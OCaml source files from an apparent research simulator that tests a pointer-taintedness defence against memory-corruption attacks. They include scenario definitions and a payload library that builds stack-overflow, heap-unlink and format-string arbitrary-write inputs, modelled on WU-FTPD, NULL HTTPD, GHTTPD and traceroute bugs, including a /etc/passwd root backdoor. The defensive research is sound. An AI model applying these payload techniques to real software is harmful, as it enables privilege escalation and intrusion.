  kind : kind;
  description : string;
  build : unit -> Ptaint_asm.Program.t;
  attack_config : Ptaint_asm.Program.t -> Ptaint_sim.Sim.config;
  benign_config : (Ptaint_asm.Program.t -> Ptaint_sim.Sim.config) option;
  compromised : Ptaint_sim.Sim.result -> string option;
}

let kind_name = function
  | Control_data -> "control data"
  | Non_control_data -> "non-control data"

let verdict_of scenario (result : Ptaint_sim.Sim.result) =
  match result.Ptaint_sim.Sim.outcome with
  | Ptaint_sim.Sim.Alert a -> Detected a
  | Ptaint_sim.Sim.Exited _ | Ptaint_sim.Sim.Out_of_fuel -> (
    match scenario.compromised result with
    | Some evidence -> Compromised evidence
    | None -> Survived)
  | Ptaint_sim.Sim.Fault f -> (
    (* a compromise that then crashes the process still succeeded *)
    match scenario.compromised result with
    | Some evidence -> Compromised evidence
    | None -> Crashed (Format.asprintf "%a" Ptaint_cpu.Machine.pp_fault f))
  | Ptaint_sim.Sim.Trap c -> Crashed (Printf.sprintf "break trap %d" c)

let run ?(policy = Ptaint_cpu.Policy.default) scenario =
  let program = scenario.build () in
  let config = { (scenario.attack_config program) with Ptaint_sim.Sim.policy = policy } in
  let result = Ptaint_sim.Sim.run ~config program in
  (verdict_of scenario result, result)

let run_benign ?(policy = Ptaint_cpu.Policy.default) scenario =
  match scenario.benign_config with
  | None -> invalid_arg ("no benign workload for scenario " ^ scenario.name)
  | Some benign ->
    let program = scenario.build () in
    let config = { (benign program) with Ptaint_sim.Sim.policy = policy } in
    let result = Ptaint_sim.Sim.run ~config program in
    (verdict_of scenario result, result)

let verdict_name = function
  | Detected _ -> "DETECTED"
  | Compromised _ -> "COMPROMISED"
  | Crashed _ -> "crashed"
  | Survived -> "survived"

let pp_verdict ppf = function
  | Detected a -> Format.fprintf ppf "DETECTED (%a)" Ptaint_cpu.Machine.pp_alert a
  | Compromised e -> Format.fprintf ppf "COMPROMISED (%s)" e
  | Crashed why -> Format.fprintf ppf "crashed (%s)" why
  | Survived -> Format.pp_print_string ppf "survived"

let coverage_policies =
  [ ("no protection", Ptaint_cpu.Policy.unprotected);
    ("control-data only", Ptaint_cpu.Policy.control_only);
    ("pointer taintedness", Ptaint_cpu.Policy.default) ]

(* crt0 pushes argc/argv/envp (12 bytes) before [jal main]; main's
   prologue pushes $ra and the caller's $fp (8 bytes). *)
let main_frame_pointer (image : Ptaint_asm.Loader.image) =
  image.Ptaint_asm.Loader.initial_sp - 12 - 8
