type kind = Control_data | Non_control_data

type verdict =
  | Detected of Ptaint_cpu.Machine.alert
  | Compromised of string
  | Crashed of string
  | Survived

type case = {
  case_name : string;
  malicious : bool;
  config : Ptaint_asm.Program.t -> Ptaint_sim.Sim.config;
}

type t = {
  name : string;
  kind : kind;
  description : string;
  build : unit -> Ptaint_asm.Program.t;
  cases : case list;
  compromised : Ptaint_sim.Sim.result -> string option;
}

let attack_case ?(name = "attack") config = { case_name = name; malicious = true; config }
let benign_case ?(name = "benign") config = { case_name = name; malicious = false; config }

let attack scenario =
  match List.find_opt (fun c -> c.malicious) scenario.cases with
  | Some c -> c
  | None -> invalid_arg ("scenario " ^ scenario.name ^ " has no attack case")

let benign scenario = List.find_opt (fun c -> not c.malicious) scenario.cases
let attack_config scenario = (attack scenario).config

let kind_name = function
  | Control_data -> "control data"
  | Non_control_data -> "non-control data"

let verdict_of scenario (result : Ptaint_sim.Sim.result) =
  match result.Ptaint_sim.Sim.outcome with
  | Ptaint_sim.Sim.Alert a -> Detected a
  | Ptaint_sim.Sim.Exited _ | Ptaint_sim.Sim.Out_of_fuel -> (
    match scenario.compromised result with
    | Some evidence -> Compromised evidence
    | None -> Survived)
  | Ptaint_sim.Sim.Fault f -> (
    (* a compromise that then crashes the process still succeeded *)
    match scenario.compromised result with
    | Some evidence -> Compromised evidence
    | None -> Crashed (Format.asprintf "%a" Ptaint_cpu.Machine.pp_fault f))
  | Ptaint_sim.Sim.Trap c -> Crashed (Printf.sprintf "break trap %d" c)

let run_case scenario case policy =
  let program = scenario.build () in
  (* Observation is on for attack cases: their reports must carry the
     taint-provenance narrative, and attack workloads are short enough
     that the tracing cost is irrelevant. *)
  let config = { (case.config program) with Ptaint_sim.Sim.policy; obs = true } in
  let result = Ptaint_sim.Sim.run ~config program in
  (verdict_of scenario result, result)

let run ?(policy = Ptaint_cpu.Policy.default) scenario =
  run_case scenario (attack scenario) policy

let run_benign ?(policy = Ptaint_cpu.Policy.default) scenario =
  match benign scenario with
  | None -> invalid_arg ("no benign workload for scenario " ^ scenario.name)
  | Some case -> run_case scenario case policy

let verdict_name = function
  | Detected _ -> "DETECTED"
  | Compromised _ -> "COMPROMISED"
  | Crashed _ -> "crashed"
  | Survived -> "survived"

let pp_verdict ppf = function
  | Detected a -> Format.fprintf ppf "DETECTED (%a)" Ptaint_cpu.Machine.pp_alert a
  | Compromised e -> Format.fprintf ppf "COMPROMISED (%s)" e
  | Crashed why -> Format.fprintf ppf "crashed (%s)" why
  | Survived -> Format.pp_print_string ppf "survived"

let coverage_policies =
  [ ("no protection", Ptaint_cpu.Policy.unprotected);
    ("control-data only", Ptaint_cpu.Policy.control_only);
    ("pointer taintedness", Ptaint_cpu.Policy.default) ]

(* crt0 pushes argc/argv/envp (12 bytes) before [jal main]; main's
   prologue pushes $ra and the caller's $fp (8 bytes). *)
let main_frame_pointer (image : Ptaint_asm.Loader.image) =
  image.Ptaint_asm.Loader.initial_sp - 12 - 8
