open Ptaint_apps

let compiled source = lazy (Ptaint_runtime.Runtime.compile source)
let build l () = Lazy.force l

let exec_bin_sh (r : Ptaint_sim.Sim.result) =
  if
    List.exists
      (fun p -> Payload.normalize_path p = "/bin/sh")
      r.Ptaint_sim.Sim.execs
  then Some "spawned /bin/sh with server privileges"
  else None

let never_compromised (_ : Ptaint_sim.Sim.result) = None

let stdin_config input _program = Ptaint_sim.Sim.config ~stdin:input ()
let sessions_config sessions _program = Ptaint_sim.Sim.config ~sessions ()

let attack_benign attack benign =
  [ Scenario.attack_case attack; Scenario.benign_case benign ]

(* --- synthetic (Figure 2) --- *)

let exp1_program = compiled Synthetic.exp1

let exp1_stack_smash =
  { Scenario.name = "exp1 stack smash (24 x 'a')";
    kind = Scenario.Control_data;
    description =
      "Figure 2 stack buffer overflow: 24 input bytes overrun buf[10], tainting the \
       saved frame pointer and return address (0x61616161).";
    build = build exp1_program;
    cases = attack_benign (stdin_config (Payload.fill 24 ^ "\n")) (stdin_config "hi\n");
    compromised = never_compromised }

let exp1_ret2libc =
  { Scenario.name = "exp1 return-to-libc";
    kind = Scenario.Control_data;
    description =
      "The same overflow with a targeted payload: the return address is replaced by \
       the address of root_shell(), which exec's /bin/sh.";
    build = build exp1_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          Ptaint_sim.Sim.config
            ~stdin:(Payload.overflow_word ~pad:Synthetic.exp1_buffer_to_ra target ^ "\n")
            ())
        (stdin_config "hi\n");
    compromised = exec_bin_sh }

let exp2_heap =
  { Scenario.name = "exp2 heap corruption";
    kind = Scenario.Control_data;
    description =
      "Figure 2 heap overflow: input overruns an 8-byte malloc'd buffer into the free \
       chunk behind it, forging its size/fd/bk; free()'s unlink then dereferences the \
       tainted fd (0x61616161).";
    build = build (compiled Synthetic.exp2);
    cases =
      attack_benign
        (stdin_config
           (Payload.fill Synthetic.exp2_user_to_next_header
            ^ Payload.fake_chunk ~size:0x40 ~fd:0x61616161 ~bk:0x61616161
            ^ "\n"))
        (stdin_config "ok\n");
    compromised = never_compromised }

let exp3_format =
  { Scenario.name = "exp3 format string (abcd%x%x%x%n)";
    kind = Scenario.Control_data;
    description =
      "Figure 2 format string: recv'd data used as printf format; %n dereferences the \
       tainted word 0x64636261 ('abcd').";
    build = build (compiled Synthetic.exp3);
    cases =
      attack_benign
        (sessions_config [ [ "abcd%x%x%x%n" ] ])
        (sessions_config [ [ "hello from a polite client" ] ]);
    compromised = never_compromised }

let exp4_program = compiled Synthetic.exp4_fnptr

let exp4_fnptr =
  { Scenario.name = "exp4 function-pointer overwrite";
    kind = Scenario.Control_data;
    description =
      "Overflow into an adjacent stack function pointer; the corrupted JALR target is \
       control data, so even control-flow-integrity baselines catch it.";
    build = build exp4_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          Ptaint_sim.Sim.config
            ~stdin:(Payload.overflow_word ~pad:Synthetic.exp4_buffer_to_fnptr target ^ "\n")
            ())
        (stdin_config "hello\n");
    compromised = exec_bin_sh }

(* --- real-world applications (section 5.1.2) --- *)

let wuftpd_program = compiled Wuftpd.source
let initial_passwd = "root:x:0:0:root:/root:/bin/bash\n"

let wuftpd_format_uid =
  { Scenario.name = "WU-FTPD SITE EXEC format string -> uid";
    kind = Scenario.Non_control_data;
    description =
      "Table 2: the SITE EXEC format-string bug overwrites the logged-in user's uid \
       word with 0, then STOR rewrites /etc/passwd with a root backdoor.  No control \
       data is touched.";
    build = build wuftpd_program;
    cases =
      attack_benign
        (fun program ->
          let uid_addr = Ptaint_asm.Program.symbol_exn program Wuftpd.uid_symbol in
          let payload = Payload.format_write_word ~ap_skip_words:0 ~target:uid_addr ~value:0 in
          Ptaint_sim.Sim.config
            ~sessions:
              [ Wuftpd.login_session
                @ [ Wuftpd.site_exec payload; Wuftpd.stor_passwd; "quit\n" ] ]
            ~fs_init:[ (Wuftpd.passwd_path, initial_passwd) ]
            ())
        (fun _ ->
          Ptaint_sim.Sim.config
            ~sessions:
              [ Wuftpd.login_session
                @ [ "site exec uptime\n"; Wuftpd.stor_passwd; "quit\n" ] ]
            ~fs_init:[ (Wuftpd.passwd_path, initial_passwd) ]
            ());
    compromised =
      (fun r ->
        match Ptaint_os.Fs.read (Ptaint_os.Kernel.fs r.Ptaint_sim.Sim.kernel) ~path:Wuftpd.passwd_path with
        | Some contents
          when contents <> initial_passwd
               && String.length contents >= String.length Wuftpd.backdoor_line ->
          Some "replaced /etc/passwd with a root backdoor entry"
        | _ -> None) }

let nullhttpd_program = compiled Nullhttpd.source

let nullhttpd_cgi_root =
  { Scenario.name = "NULL HTTPD heap overflow -> CGI-BIN config";
    kind = Scenario.Non_control_data;
    description =
      "A POST with Content-Length -800 undersizes the heap body buffer; the oversized \
       body forges the next chunk so that free()'s unlink write repoints cgi_root at \
       \"/bin\", and a follow-up GET /cgi-bin/sh runs /bin/sh.";
    build = build nullhttpd_program;
    cases =
      attack_benign
        (fun program ->
          let image = Ptaint_asm.Loader.load ~argv:[ "nullhttpd" ] program in
          let cgi_root = Ptaint_asm.Program.symbol_exn program Nullhttpd.cgi_root_symbol in
          let body_user = image.Ptaint_asm.Loader.heap_base + 4 in
          let alloc = 1024 - 800 in
          (* unlink performs FD->bk = BK then BK->fd = FD.  Aim the
             second write at cgi_root (bk = &cgi_root - 4); the first
             write clobbers FD+8, and free's closing bin-insert clobbers
             body[0..7], so the "/bin" string is planted at offset 12:
             insert hits 0..7, the mirror write hits 20..23, both
             harmless. *)
          let bin_string = body_user + 12 in
          let body =
            Payload.fill 12
            ^ "/bin\000"
            ^ Payload.fill (alloc - 17)
            ^ Payload.fake_chunk ~size:0x40 ~fd:bin_string ~bk:(cgi_root - 4)
          in
          Ptaint_sim.Sim.config ~argv:[ "nullhttpd" ]
            ~sessions:
              [ Nullhttpd.post_request ~content_length:(-800) ~body;
                [ Nullhttpd.get_cgi "sh" ] ]
            ())
        (fun _ ->
          Ptaint_sim.Sim.config ~argv:[ "nullhttpd" ]
            ~sessions:
              [ Nullhttpd.post_request ~content_length:5 ~body:"hello";
                [ Nullhttpd.get_cgi "status" ] ]
            ());
    compromised = exec_bin_sh }

let ghttpd_program = compiled Ghttpd.source

let ghttpd_url_pointer =
  { Scenario.name = "GHTTPD stack overflow -> URL pointer";
    kind = Scenario.Non_control_data;
    description =
      "A 204-byte request line overruns the 200-byte log buffer and replaces the url \
       pointer local — after the /.. policy check — with the stack address of a \
       second fragment naming /cgi-bin/../../../../bin/sh.";
    build = build ghttpd_program;
    cases =
      attack_benign
        (fun program ->
          let image = Ptaint_asm.Loader.load ~argv:[ "ghttpd" ] program in
          let fp_main = Scenario.main_frame_pointer image in
          let request_base = fp_main - 4096 in
          let line1_len = Ghttpd.overflow_to_url + 4 in
          let tail_addr = request_base + line1_len + 2 in
          let line1 =
            "GET /"
            ^ Payload.fill ~byte:'A' (Ghttpd.overflow_to_url - 5)
            ^ Payload.le_word tail_addr
          in
          let request = line1 ^ "\n\n" ^ Ghttpd.attack_tail in
          Ptaint_sim.Sim.config ~argv:[ "ghttpd" ] ~sessions:[ [ request ] ] ())
        (fun _ ->
          Ptaint_sim.Sim.config ~argv:[ "ghttpd" ]
            ~sessions:[ [ "GET /index.html\n\n" ] ]
            ());
    compromised = exec_bin_sh }

let traceroute_program = compiled Traceroute.source

let traceroute_double_free =
  { Scenario.name = "traceroute -g double free";
    kind = Scenario.Control_data;
    description =
      "traceroute -g 123 -g 5.6.7.8: the gateway parser free()s a pointer into the \
       middle of the savestr pool, so free's chunk walk interprets the first gateway \
       string (\"123\\0\" = 0x00333231) as a size field and dereferences an address \
       built from those command-line bytes.";
    build = build traceroute_program;
    cases =
      attack_benign
        (fun _ -> Ptaint_sim.Sim.config ~argv:Traceroute.attack_argv ())
        (fun _ -> Ptaint_sim.Sim.config ~argv:Traceroute.benign_argv ());
    compromised = never_compromised }

(* --- remaining taint sources: environment and file system --- *)

let login_program = compiled Cli.login

let env_login =
  { Scenario.name = "login $HOME overflow (environment source)";
    kind = Scenario.Control_data;
    description =
      "A setuid-style login tool strcpy's $HOME into a 32-byte stack buffer; an \
       oversized value plants a return address (the terminating NUL from strcpy \
       supplies the address's high zero byte, the classic trick).  Environment \
       variables are tainted input, so the corrupted return is caught at JR.";
    build = build login_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          (* environment values travel as C strings: the three low bytes
             must be NUL-free (strcpy's terminator supplies the high
             zero byte of the 0x004xxxxx address) *)
          let addr3 = String.sub (Payload.le_word target) 0 3 in
          assert (not (String.contains addr3 '\000'));
          Ptaint_sim.Sim.config
            ~env:[ ("HOME", Payload.fill Cli.login_buffer_to_ra ^ addr3) ]
            ())
        (fun _ -> Ptaint_sim.Sim.config ~env:[ ("HOME", "/home/alice") ] ());
    compromised = exec_bin_sh }

let logd_program = compiled Cli.logd

let logd_config =
  { Scenario.name = "logd poisoned config (file source)";
    kind = Scenario.Non_control_data;
    description =
      "A log daemon reads its line template from /etc/logd.conf and uses it as a \
       printf format.  File contents are tainted input; a %n in the template \
       dereferences a word assembled from the (tainted) log line itself.";
    build = build logd_program;
    cases =
      attack_benign
        (fun _ ->
          Ptaint_sim.Sim.config ~fs_init:[ (Cli.logd_conf_path, "AAAA%x%n\n") ] ())
        (fun _ -> Ptaint_sim.Sim.config ~fs_init:[ (Cli.logd_conf_path, "logd[%s]\n") ] ());
    compromised = never_compromised }

let synthetic = [ exp1_stack_smash; exp1_ret2libc; exp2_heap; exp3_format; exp4_fnptr ]

let real_world =
  [ wuftpd_format_uid; nullhttpd_cgi_root; ghttpd_url_pointer; traceroute_double_free ]

let other_sources = [ env_login; logd_config ]
let all = synthetic @ real_world @ other_sources
