let le_word v =
  String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xff))

let fill ?(byte = 'a') n = String.make n byte

let overflow_word ~pad ?byte v = fill ?byte pad ^ le_word v

let fake_chunk ~size ~fd ~bk =
  assert (size land 1 = 0);
  le_word size ^ le_word fd ^ le_word bk

(* Format-string write primitive.

   Payload shape:   %8x ... %8x  %Wx%hhn %Wx%hhn ...  <pad>  J A0 J A1 ...
                    `--- k ---'  `---- one per byte ----'     address block

   The argument pointer starts [ap_skip_words] words below the buffer;
   each %8x consumes one word; each %Wx consumes one junk word J and
   each %hhn one planted address.  The address block must begin
   exactly where the (k+1)-th consumed word lies, i.e. at byte offset
   4*(k - ap_skip_words); k is the smallest count that leaves room for
   the directive text.  Widths are >= 9 so every %x prints exactly its
   width, making the output count — the value %hhn stores —
   deterministic. *)
let format_write_bytes ~ap_skip_words ~target ~bytes =
  let n = List.length bytes in
  let widths_for k =
    let current = ref (8 * k) in
    List.map
      (fun b ->
        let delta = ref (((b land 0xff) - !current) mod 256) in
        while !delta < 9 do
          delta := !delta + 256
        done;
        current := !current + !delta;
        !delta)
      bytes
  in
  let text_len k widths =
    (3 * k)
    + List.fold_left (fun acc w -> acc + 2 + String.length (string_of_int w) + 4) 0 widths
  in
  let rec solve k =
    if k > 4096 then invalid_arg "format_write_bytes: no payload layout found";
    let widths = widths_for k in
    let room = 4 * (k - ap_skip_words) in
    if room >= text_len k widths then (k, widths) else solve (k + 1)
  in
  let k, widths = solve (ap_skip_words + 1) in
  let buf = Buffer.create 256 in
  for _ = 1 to k do
    Buffer.add_string buf "%8x"
  done;
  List.iter (fun w -> Buffer.add_string buf (Printf.sprintf "%%%dx%%hhn" w)) widths;
  let pad = (4 * (k - ap_skip_words)) - Buffer.length buf in
  Buffer.add_string buf (String.make pad 'P');
  List.iteri
    (fun i _ ->
      Buffer.add_string buf "JNKW";
      Buffer.add_string buf (le_word (target + i)))
    (List.init n Fun.id);
  Buffer.contents buf

let format_write_word ~ap_skip_words ~target ~value =
  format_write_bytes ~ap_skip_words ~target
    ~bytes:[ value land 0xff; (value lsr 8) land 0xff; (value lsr 16) land 0xff;
             (value lsr 24) land 0xff ]

let normalize_path path =
  let absolute = String.length path > 0 && path.[0] = '/' in
  let parts = String.split_on_char '/' path in
  let stack =
    List.fold_left
      (fun acc part ->
        match part with
        | "" | "." -> acc
        | ".." -> (match acc with [] -> [] | _ :: rest -> rest)
        | p -> p :: acc)
      [] parts
  in
  (if absolute then "/" else "") ^ String.concat "/" (List.rev stack)
