(** Guest address-space layout.

    Mirrors the SimpleScalar/MIPS convention used by the paper's
    examples: text low, static data at 0x10000000 (the WU-FTPD uid
    word in Table 2 lives at 0x1002bc20), heap above data, and a
    downward-growing stack just under 0x80000000 (the GHTTPD attack
    uses 0x7fff3e94). *)

val text_base : int
val data_base : int
val stack_top : int
(** First address {e above} the initial stack pointer region. *)

val default_stack_bytes : int
val default_heap_bytes : int
val page_bytes : int
