(** Set-associative cache model carrying taintedness.

    The paper extends L1/L2 caches so that taintedness bits travel
    with cache lines (section 4.1).  Here the guest memory remains the
    authoritative store; the cache model tracks tags, LRU state, a
    per-line taint summary (set when a fill or write brings tainted
    bytes into the line), and hit/miss statistics that feed the
    pipeline timing model. *)

type t

type config = {
  sets : int;        (** number of sets; power of two *)
  ways : int;
  line_bytes : int;  (** power of two *)
  hit_latency : int; (** cycles *)
}

val l1_config : config
val l2_config : config
val create : config -> t

type result = Hit | Miss

val access : t -> addr:int -> write:bool -> tainted:bool -> result
(** Simulate one access; fills the line on a miss.  [tainted] marks
    the line's taint summary (on writes and fills). *)

val line_tainted : t -> addr:int -> bool
(** Taint summary of the resident line, false if not resident. *)

type stats = { mutable hits : int; mutable misses : int; mutable tainted_lines_filled : int }

val stats : t -> stats
val reset_stats : t -> unit

(** {1 Two-level hierarchy} *)

module Hierarchy : sig
  type cache = t
  type t

  val create : ?l1:config -> ?l2:config -> memory_latency:int -> unit -> t

  val access : t -> addr:int -> write:bool -> tainted:bool -> int
  (** Returns the access latency in cycles: L1 hit latency, plus L2 on
      an L1 miss, plus memory latency on an L2 miss.  An L1 refill
      served from L2 inherits the L2 line's taint summary, so the L1
      summary never understates the tag plane it caches. *)

  val l1 : t -> cache
  val l2 : t -> cache
end
