(** The unified tagged page store backing {!Memory}.

    Each 4 KiB guest page is one flat [Bigarray] of [page_bytes / 4]
    native ints — one element per aligned guest word, holding the
    word's packed {!Ptaint_taint.Tword} bits (value in bits 0–31, one
    taint bit per byte in bits 32–35).  An aligned word access is a
    single array element read or write, and a page's tags live on the
    same cache lines as its data, the way the paper's extended memory
    carries taint bits alongside each word (section 4.1).

    Addresses are guest-physical, already masked to 32 bits by the
    caller; accessing an unmapped page raises {!Unmapped} (the
    {!Memory} wrapper turns this into its [Fault]).

    Pages support copy-on-write sharing: {!snapshot} freezes the
    current contents, {!restore} builds a new store aliasing the
    snapshot's pages, and the first write to a shared page clones it.
    Snapshot planes are never written after creation, so one snapshot
    may be restored concurrently from many domains. *)

type t

exception Unmapped of int

val create : unit -> t

val map_page : t -> int -> bool
(** [map_page t idx] maps page [idx] (zero-filled, untainted);
    returns [true] iff the page was not already mapped. *)

val is_mapped : t -> int -> bool
(** By page index. *)

val mapped_pages : t -> int

val tainted_bytes : t -> int
(** Exact number of live tainted bytes across all pages, maintained
    incrementally by every taint-plane writer (stores, range fills,
    snapshot restore).  [0] proves the entire taint plane is zero —
    the precondition of the [*_clean] accessors. *)

(** {1 Access}  [load_word]/[store_word] and the half-word pair take
    any alignment; accesses crossing into an unmapped page raise
    {!Unmapped} with the first unmapped address. *)

val load_byte : t -> int -> int * bool
val store_byte : t -> int -> int -> taint:bool -> unit
val load_word : t -> int -> Ptaint_taint.Tword.t
val store_word : t -> int -> Ptaint_taint.Tword.t -> unit
val load_half : t -> int -> int * Ptaint_taint.Mask.t
val store_half : t -> int -> int -> m:Ptaint_taint.Mask.t -> unit

(** {1 CPU fast-path access}

    Inline variants for the interpreter's execution loop, which
    checks alignment {e before} the access and handles {!Unmapped}
    itself: the word pair requires a 4-aligned address, the half pair
    an even one (neither can then cross a page).  [load_byte_tw] and
    [load_half_even] return the data packed as a {!Ptaint_taint.Tword}
    so nothing on the path allocates. *)

val load_word_aligned : t -> int -> Ptaint_taint.Tword.t
val store_word_aligned : t -> int -> Ptaint_taint.Tword.t -> unit

val load_word_elt : t -> int -> int
(** Raw packed element at a 4-aligned address — the word's value bits
    0..31 plus its four taint tags at bits 32..35, with no masking or
    re-packing at all.  The superblock tier's [lw]: the element is the
    Tword bit pattern, so the translated closure stores it straight
    into the register file. *)
val load_byte_tw : t -> int -> Ptaint_taint.Tword.t
val load_half_even : t -> int -> Ptaint_taint.Tword.t
val store_half_even : t -> int -> int -> m:Ptaint_taint.Mask.t -> unit
val load_word_clean_aligned : t -> int -> int
val store_word_clean_aligned : t -> int -> int -> unit
val load_half_clean_even : t -> int -> int
val store_half_clean_even : t -> int -> int -> unit

(** {1 Clean-plane access}

    Data-plane-only variants for the CPU's clean fast path.  Sound
    only while {!tainted_bytes} is [0]: loads skip assembling a mask
    that would be zero anyway, stores skip clearing tags that are
    already clear.  Same faulting behaviour as the full accessors. *)

val load_byte_clean : t -> int -> int
val store_byte_clean : t -> int -> int -> unit
val load_word_clean : t -> int -> int
val store_word_clean : t -> int -> int -> unit
val load_half_clean : t -> int -> int
val store_half_clean : t -> int -> int -> unit

(** {1 Taint plane ranges} *)

val taint_range : t -> int -> int -> unit
val untaint_range : t -> int -> int -> unit

val tainted_in_range : t -> int -> int -> int
(** Number of tainted bytes in [addr, addr+len); raises {!Unmapped}
    like the accessors. *)

val taint_summary : t -> int -> int -> bool
(** Whether any byte of [addr, addr+len) is tainted, treating
    unmapped bytes as clean — the fault-free probe cache models use
    to derive per-line tag summaries. *)

(** {1 Fault injection and invariant audit}

    Entry points for the fault-injection engine.  They are the only
    sanctioned way to corrupt a store from outside the CPU: each one
    either touches the data plane alone or maintains the live
    tainted-byte counter exactly, so the clean fast path's
    [tainted_bytes = 0] test stays sound after any injection. *)

val check_invariants : t -> unit
(** Recount the taint plane and verify it matches {!tainted_bytes},
    and verify every populated page-cache slot aliases the live page
    record for its index.  Raises [Failure] with a description on the
    first violation.  O(mapped bytes) — a debug audit, not a fast
    path. *)

val debug_asserts : bool ref
(** When set, every injection entry point runs {!check_invariants}
    after mutating — the debug assert hook for fi tests. *)

val inject_flip_data : t -> int -> bit:int -> unit
(** Flip bit [bit land 7] of the data byte at the given address; the
    taint plane (and thus the live counter) is untouched.  Raises
    {!Unmapped} like the accessors. *)

val inject_set_taint_range : t -> int -> int -> tainted:bool -> unit
(** [inject_set_taint_range t addr len ~tainted] forces the taint bit
    of every byte in [[addr, addr+len)] — data bytes untouched, live
    counter adjusted per byte actually changed.  [tainted:false] is
    the taint-loss fault, [tainted:true] spurious taint.  Raises
    {!Unmapped} like the accessors. *)

val inject_wipe_taint : t -> unit
(** Clear every taint bit in the store and zero the live counter — the
    "total taint loss" fault.  COW-shared pages are cloned before
    writing, so snapshots are unaffected. *)

(** {1 Copy-on-write snapshots} *)

type snapshot

val snapshot : t -> snapshot
(** Freeze the current contents.  O(pages), copies no page data; the
    live store keeps working and clones pages as it writes them. *)

val restore : snapshot -> t
(** A fresh store with the snapshot's contents, sharing pages
    copy-on-write.  Safe to call concurrently from multiple domains. *)

val reset_from_snapshot : t -> snapshot -> unit
(** In-place {!restore} for arena recycling: rewind [t] to the
    snapshot's contents, reusing its page records and lookup cache
    storage.  Pages the store mapped beyond the snapshot are dropped;
    surviving records alias the snapshot's planes shared, so the next
    write clones as usual.  Observationally equivalent to replacing
    [t] with [restore snap]; the snapshot may belong to a different
    store/image than the one [t] last ran. *)
