(** The unified tagged page store backing {!Memory}.

    Each 4 KiB guest page is one flat [Bigarray] of [2 * page_bytes]
    unsigned bytes: the data plane in [0, page_bytes) and the taint
    plane — one 0/1 byte per data byte — in [page_bytes,
    2*page_bytes).  Keeping both planes in one buffer gives the word
    fast paths a single bounds-checked base and keeps a page's tags on
    the same cache lines as its data, the way the paper's extended
    memory carries taint bits alongside each word (section 4.1).

    Addresses are guest-physical, already masked to 32 bits by the
    caller; accessing an unmapped page raises {!Unmapped} (the
    {!Memory} wrapper turns this into its [Fault]).

    Pages support copy-on-write sharing: {!snapshot} freezes the
    current contents, {!restore} builds a new store aliasing the
    snapshot's pages, and the first write to a shared page clones it.
    Snapshot planes are never written after creation, so one snapshot
    may be restored concurrently from many domains. *)

type t

exception Unmapped of int

val create : unit -> t

val map_page : t -> int -> bool
(** [map_page t idx] maps page [idx] (zero-filled, untainted);
    returns [true] iff the page was not already mapped. *)

val is_mapped : t -> int -> bool
(** By page index. *)

val mapped_pages : t -> int

(** {1 Access}  [load_word]/[store_word] and the half-word pair take
    any alignment; accesses crossing into an unmapped page raise
    {!Unmapped} with the first unmapped address. *)

val load_byte : t -> int -> int * bool
val store_byte : t -> int -> int -> taint:bool -> unit
val load_word : t -> int -> Ptaint_taint.Tword.t
val store_word : t -> int -> Ptaint_taint.Tword.t -> unit
val load_half : t -> int -> int * Ptaint_taint.Mask.t
val store_half : t -> int -> int -> m:Ptaint_taint.Mask.t -> unit

(** {1 Taint plane ranges} *)

val taint_range : t -> int -> int -> unit
val untaint_range : t -> int -> int -> unit

val tainted_in_range : t -> int -> int -> int
(** Number of tainted bytes in [addr, addr+len); raises {!Unmapped}
    like the accessors. *)

val taint_summary : t -> int -> int -> bool
(** Whether any byte of [addr, addr+len) is tainted, treating
    unmapped bytes as clean — the fault-free probe cache models use
    to derive per-line tag summaries. *)

(** {1 Copy-on-write snapshots} *)

type snapshot

val snapshot : t -> snapshot
(** Freeze the current contents.  O(pages), copies no page data; the
    live store keeps working and clones pages as it writes them. *)

val restore : snapshot -> t
(** A fresh store with the snapshot's contents, sharing pages
    copy-on-write.  Safe to call concurrently from multiple domains. *)
