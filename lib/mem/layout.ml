let text_base = 0x00400000
let data_base = 0x10000000
let stack_top = 0x7fff8000
let default_stack_bytes = 1 lsl 20
let default_heap_bytes = 1 lsl 20
let page_bytes = 4096
