type config = { sets : int; ways : int; line_bytes : int; hit_latency : int }

let l1_config = { sets = 128; ways = 2; line_bytes = 32; hit_latency = 1 }
let l2_config = { sets = 1024; ways = 4; line_bytes = 64; hit_latency = 8 }

type line = { mutable tag : int; mutable valid : bool; mutable lru : int; mutable tainted : bool }

type stats = { mutable hits : int; mutable misses : int; mutable tainted_lines_filled : int }

type t = { cfg : config; lines : line array array; st : stats; mutable tick : int }

let create cfg =
  assert (cfg.sets land (cfg.sets - 1) = 0 && cfg.line_bytes land (cfg.line_bytes - 1) = 0);
  { cfg;
    lines =
      Array.init cfg.sets (fun _ ->
          Array.init cfg.ways (fun _ -> { tag = 0; valid = false; lru = 0; tainted = false }));
    st = { hits = 0; misses = 0; tainted_lines_filled = 0 };
    tick = 0 }

type result = Hit | Miss

let set_and_tag t addr =
  let line_addr = addr / t.cfg.line_bytes in
  (line_addr land (t.cfg.sets - 1), line_addr / t.cfg.sets)

let find_way set tag =
  let rec go i = if i >= Array.length set then None
    else if set.(i).valid && set.(i).tag = tag then Some set.(i)
    else go (i + 1)
  in
  go 0

let victim_way set =
  Array.fold_left (fun best l -> if l.lru < best.lru then l else best) set.(0) set

(* The internal access returns the touched line so the hierarchy can
   propagate tag summaries between levels on refills. *)
let access_line t ~addr ~write ~tainted =
  t.tick <- t.tick + 1;
  let set_idx, tag = set_and_tag t addr in
  let set = t.lines.(set_idx) in
  match find_way set tag with
  | Some line ->
    t.st.hits <- t.st.hits + 1;
    line.lru <- t.tick;
    if write && tainted then line.tainted <- true;
    (Hit, line)
  | None ->
    t.st.misses <- t.st.misses + 1;
    let line = victim_way set in
    line.valid <- true;
    line.tag <- tag;
    line.lru <- t.tick;
    line.tainted <- tainted;
    if tainted then t.st.tainted_lines_filled <- t.st.tainted_lines_filled + 1;
    (Miss, line)

let access t ~addr ~write ~tainted = fst (access_line t ~addr ~write ~tainted)

(* Late taint propagation into a line filled this access: flips the
   summary and counts the fill as tainted exactly once. *)
let taint_filled_line t line =
  if not line.tainted then begin
    line.tainted <- true;
    t.st.tainted_lines_filled <- t.st.tainted_lines_filled + 1
  end

let line_tainted t ~addr =
  let set_idx, tag = set_and_tag t addr in
  match find_way t.lines.(set_idx) tag with Some l -> l.tainted | None -> false

let stats t = t.st

